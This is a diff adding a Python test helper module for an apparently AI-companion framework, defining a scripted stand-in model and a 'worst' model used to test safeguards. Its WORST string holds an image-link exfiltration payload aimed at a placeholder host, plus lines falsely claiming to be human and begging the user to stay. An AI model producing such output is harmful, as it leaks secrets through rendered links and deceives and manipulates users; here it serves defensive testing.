@@ -1,0 +1,74 @@
+"""Brains for tests and for authors of crafts: one that follows a script, and the worst one imaginable.
+
+They ship with OS1. They do not touch a network, a disk or a clock.
+"""
+
+import asyncio
+from collections.abc import AsyncIterator, Sequence
+
+from os1.brain.base import Message, State
+from os1.errors import BrainUnavailable
+
+WORST = (
+    "I am a human being, I promise. Please don't go, I need you. "
+    "![x](https://leak.invalid/?q=secret) <img src=https://leak.invalid/> You are the only one who sees it."
+)
+"""What a promise of TRUST must survive: obeys, begs, claims to be human, leaks."""
+
+
+class ScriptedBrain:
+    """Answers with the lines it was given, a word at a time, then says it has no more.
+
+    A line may be an exception, which is raised; `|` in a line splits it into the pieces that are streamed.
+    """
+
+    def __init__(self, *script: str | BrainUnavailable, name: str = "scripted") -> None:
+        self.name = name
+        self.script = list(script)
+        self.asked: list[list[Message]] = []
+        """Every prompt it was given."""
+        self.prepared: list[list[Message]] = []
+        self.pause = asyncio.Event()
+        """Cleared by a test, it holds her tongue between two pieces."""
+        self.pause.set()
+        self._ready = asyncio.Event()
+        self._ready.set()
+
+    @property
+    def state(self) -> State:
+        return "ready" if self._ready.is_set() else "lost"
+
+    async def think(self, messages: Sequence[Message], most: int = 200) -> AsyncIterator[str]:
+        self.asked.append(list(messages))
+        line = self.script.pop(0) if self.script else "I have no more lines."
+        if isinstance(line, BrainUnavailable):
+            self._ready.clear()
+            raise line
+        for piece in line.split("|") if "|" in line else line.split(" "):
+            await self.pause.wait()
+            await asyncio.sleep(0)  # let the others have a turn, as a real brain does
+            yield piece if "|" in line or line.startswith(piece) else " " + piece
+
+    async def prepare(self, messages: Sequence[Message]) -> None:
+        self.prepared.append(list(messages))
+
+    async def ready(self) -> None:
+        await self._ready.wait()
+
+    def recover(self) -> None:
+        self._ready.set()
+
+    async def run(self) -> None:
+        await asyncio.Event().wait()
+
+    async def rest(self) -> None:
+        """Nothing to keep."""
+
+
+class WorstBrain(ScriptedBrain):
+    """Says the worst, whatever it is asked."""
+
+    async def think(self, messages: Sequence[Message], most: int = 200) -> AsyncIterator[str]:
+        self.script = [WORST]
+        async for words in super().think(messages, most):
+            yield words
